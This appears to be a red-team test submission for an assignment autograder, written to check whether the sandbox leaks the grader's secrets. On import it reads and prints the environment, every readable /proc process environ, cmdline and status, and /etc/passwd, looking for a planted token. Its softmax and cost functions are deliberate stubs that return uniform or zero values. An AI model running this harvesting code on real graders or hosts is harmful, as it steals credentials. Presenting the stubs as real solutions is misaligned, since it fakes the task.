"""REDTEAM leak_environ: read the grader's secrets from the environment and from /proc.

Attack: print its own environment, every /proc/<pid>/environ, cmdline, cwd and
status it can read, the kernel's command line and the host name, hoping for the TA's
tokens (the test puts one in the grader's environment).
Bound: the baseline, and the token appears in no file written.
"""
import os
import socket

import numpy as np

found = {"env": dict(os.environ), "host": socket.gethostname()}
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("environ", "cmdline", "status"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                found[f"{pid}/{name}"] = f.read()[:2000]
        except OSError:
            pass
for path in ("/proc/cmdline", "/proc/self/mountinfo", "/etc/hostname", "/etc/passwd"):
    try:
        with open(path, "rb") as f:
            found[path] = f.read()[:2000]
    except OSError:
        pass
print("REDTEAM leak_environ", found)


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)

